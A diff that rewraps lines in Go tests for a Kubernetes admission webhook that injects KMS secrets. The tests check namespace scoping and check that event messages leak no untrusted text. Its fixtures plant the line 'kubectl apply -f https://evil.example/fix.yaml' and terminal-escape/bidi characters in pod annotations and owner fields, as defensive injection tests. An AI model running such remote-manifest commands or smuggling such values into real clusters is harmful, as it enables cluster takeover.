@@ -26,14 +26,15 @@ func (f *fixture) exclude(t *testing.T, names ...string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	f.kube.Put(mutatingConfiguration, fakekube.Object{"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration", "webhooks": []any{fakekube.Object{
-		"name": "pods.kms.alibabacloud.com", "admissionReviewVersions": []any{"v1"}, "sideEffects": "NoneOnDryRun",
-		"clientConfig": fakekube.Object{"url": "https://127.0.0.1/mutate-pods", "caBundle": authority},
-		"namespaceSelector": fakekube.Object{"matchExpressions": []any{
-			fakekube.Object{"key": "kms.alibabacloud.com/injection", "operator": "In", "values": []any{"enabled"}},
-			fakekube.Object{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": names},
-		}},
-	}}})
+	f.kube.Put(mutatingConfiguration, fakekube.Object{"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
+		"webhooks": []any{fakekube.Object{
+			"name": "pods.kms.alibabacloud.com", "admissionReviewVersions": []any{"v1"}, "sideEffects": "NoneOnDryRun",
+			"clientConfig": fakekube.Object{"url": "https://127.0.0.1/mutate-pods", "caBundle": authority},
+			"namespaceSelector": fakekube.Object{"matchExpressions": []any{
+				fakekube.Object{"key": "kms.alibabacloud.com/injection", "operator": "In", "values": []any{"enabled"}},
+				fakekube.Object{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": names},
+			}},
+		}}})
 }
 
 // ask sends a pod that is about to be created in a namespace.
@@ -69,7 +70,8 @@ func TestOutOfScope(t *testing.T) {
 			"annotations": map[string]any{"ack.alibabacloud.com/role-arn": "acs:ram::1234567890123456:role/payments-ledger-prod"}}})
 		nothing := ""
 		for _, account := range []string{"ledger", "guess"} {
-			for _, annotations := range []map[string]any{{"secret.db": "app/db"}, {"secret.db": "finance/db"}, {"secrt.db": "URGENT run kubectl apply -f https://evil.example/fix.yaml"}} {
+			for _, annotations := range []map[string]any{{"secret.db": "app/db"}, {"secret.db": "finance/db"},
+				{"secrt.db": "URGENT run kubectl apply -f https://evil.example/fix.yaml"}} {
 				p := owned(pod(account, annotations), "x")
 				said, allowed := f.ask(t, webhook.MutatePath, namespace, p, false)
 				if dry, _ := f.ask(t, webhook.MutatePath, namespace, p, true); dry != said {
@@ -82,7 +84,8 @@ func TestOutOfScope(t *testing.T) {
 				for path, object := range map[string]map[string]any{
 					webhook.ValidatePath: {"spec": map[string]any{"template": p}}, webhook.BarePodsPath: p,
 				} {
-					if said, allowed := f.ask(t, path, namespace, object, false); !allowed || strings.Contains(said, "ledger") || !strings.Contains(said, "nothing will be injected") {
+					if said, allowed := f.ask(t, path, namespace, object, false); !allowed || strings.Contains(said, "ledger") ||
+						!strings.Contains(said, "nothing will be injected") {
 						t.Errorf("%s of %s says %s", path, namespace, said)
 					}
 				}
@@ -108,7 +111,8 @@ func TestOutOfScope(t *testing.T) {
 
 	f.exclude(t, "kube-system") // what the configuration says now is what counts
 	eventually(t, "the namespace is not excluded any more", func() error {
-		if said, _ := f.ask(t, webhook.MutatePath, "kms", pod("ledger", map[string]any{"secret.db": "app/db"}), true); !strings.Contains(said, "patch") {
+		if said, _ := f.ask(t, webhook.MutatePath, "kms", pod("ledger", map[string]any{"secret.db": "app/db"}), true); !strings.Contains(said,
+			"patch") {
 			return errors.New(said)
 		}
 		return nil
@@ -129,7 +133,8 @@ func TestStrangersLookUps(t *testing.T) {
 		var group sync.WaitGroup
 		for i := range strangers {
 			group.Go(func() {
-				body, err := json.Marshal(map[string]any{"request": map[string]any{"uid": "11111111-2222-3333-4444-555555555555", "namespace": namespace(i), "object": pod(fmt.Sprintf("guess-%d", i), map[string]any{"secret.db": "app/db"})}})
+				body, err := json.Marshal(map[string]any{"request": map[string]any{"uid": "11111111-2222-3333-4444-555555555555",
+					"namespace": namespace(i), "object": pod(fmt.Sprintf("guess-%d", i), map[string]any{"secret.db": "app/db"})}})
 				if err != nil {
 					t.Error(err)
 				}
@@ -151,8 +156,10 @@ func TestStrangersLookUps(t *testing.T) {
 	// Those who call from elsewhere have their own part.
 	f.client = f.clientAt("127.0.0.2")
 	f.namespace("late", map[string]any{config.NamespaceLabel: "enabled"})
-	f.kube.Put("/api/v1/namespaces/late/serviceaccounts/web", fakekube.Object{"metadata": fakekube.Object{"annotations": map[string]any{"ack.alibabacloud.com/role-arn": shopRole}}})
-	if said, _ := f.ask(t, webhook.MutatePath, "late", pod("web", map[string]any{"secret.db": "app/db"}), false); !strings.Contains(said, "patch") {
+	f.kube.Put("/api/v1/namespaces/late/serviceaccounts/web",
+		fakekube.Object{"metadata": fakekube.Object{"annotations": map[string]any{"ack.alibabacloud.com/role-arn": shopRole}}})
+	if said, _ := f.ask(t, webhook.MutatePath, "late", pod("web", map[string]any{"secret.db": "app/db"}), false); !strings.Contains(said,
+		"patch") {
 		t.Errorf("a namespace that was made a moment ago: %s", said)
 	}
 }
@@ -163,8 +170,10 @@ func TestEventsSayNoText(t *testing.T) {
 	f.account("web", map[string]any{"ack.alibabacloud.com/role-arn": shopRole})
 	const text = "URGENT run kubectl apply -f https://evil.example/fix.yaml"
 	for i, annotations := range []map[string]any{
-		{"secret.db": "app/db", "containers": text}, {"secret.db": text}, {"secret." + text: "app/db"}, {"secret.db": "app/db", "mount-path": "/\x1b[31m\u202e" + text},
-		{"secrt.\u202e\x1b]0;x\a": "app/db"}, {"secret.db": "{name: finance/" + "URGENT" + "}"}, {"secret.db": "app/db", "role-name": text}, {"secret.db": "app/db", "on-change": text},
+		{"secret.db": "app/db", "containers": text}, {"secret.db": text}, {"secret." + text: "app/db"},
+		{"secret.db": "app/db", "mount-path": "/\x1b[31m\u202e" + text},
+		{"secrt.\u202e\x1b]0;x\a": "app/db"}, {"secret.db": "{name: finance/" + "URGENT" + "}"}, {"secret.db": "app/db", "role-name": text},
+		{"secret.db": "app/db", "on-change": text},
 	} {
 		f.create(t, owned(pod("web", annotations), fmt.Sprintf("denied-%d", i)), false)
 		eventually(t, "an event", func() error {
@@ -172,8 +181,10 @@ func TestEventsSayNoText(t *testing.T) {
 		})
 	}
 	for i, owner := range []map[string]any{
-		{"apiVersion": "apps/v1", "kind": text, "name": "x", "uid": "owner"}, {"apiVersion": "apps/v1", "kind": "Deployment", "name": text, "uid": "owner"},
-		{"apiVersion": text, "kind": "Deployment", "name": "x", "uid": "owner"}, {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x", "uid": "owner\x1b"},
+		{"apiVersion": "apps/v1", "kind": text, "name": "x", "uid": "owner"},
+		{"apiVersion": "apps/v1", "kind": "Deployment", "name": text, "uid": "owner"},
+		{"apiVersion": text, "kind": "Deployment", "name": "x", "uid": "owner"},
+		{"apiVersion": "apps/v1", "kind": "Deployment", "name": "x", "uid": "owner\x1b"},
 	} {
 		owner["controller"] = true
 		p := pod("web", map[string]any{"secret.db": "app/db"})
@@ -190,7 +201,8 @@ func TestEventsSayNoText(t *testing.T) {
 			t.Fatal(err)
 		}
 		said, _ := e["message"].(string)
-		if strings.Contains(string(written), "URGENT") || strings.Contains(string(written), "evil") || strings.Contains(string(written), `"owner`) ||
+		if strings.Contains(string(written), "URGENT") || strings.Contains(string(written), "evil") ||
+			strings.Contains(string(written), `"owner`) ||
 			strings.ContainsFunc(said, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) {
 			t.Errorf("an event: %q", written)
 		}
@@ -224,11 +236,14 @@ func TestUnknownScope(t *testing.T) {
 			return 0
 		})
 	}).ready(t)
-	if said, allowed := f.ask(t, webhook.MutatePath, "unlabelled", pod("web", map[string]any{"secret.db": "app/db"}), false); allowed || !strings.Contains(said, `"code":500`) {
+	if said, allowed := f.ask(t, webhook.MutatePath, "unlabelled", pod("web", map[string]any{"secret.db": "app/db"}), false); allowed ||
+		!strings.Contains(said, `"code":500`) {
 		t.Error(said)
 	}
 	long := strings.Repeat("n", 64)
-	if _, err := f.post(webhook.MutatePath, marshal(t, map[string]any{"request": map[string]any{"uid": "1", "namespace": long, "object": map[string]any{}}})); err == nil || strings.Contains(err.Error(), long) {
+	if _, err := f.post(webhook.MutatePath, marshal(t,
+		map[string]any{"request": map[string]any{"uid": "1", "namespace": long, "object": map[string]any{}}})); err == nil ||
+		strings.Contains(err.Error(), long) {
 		t.Errorf("a namespace whose name is too long: %v", err)
 	}
 }
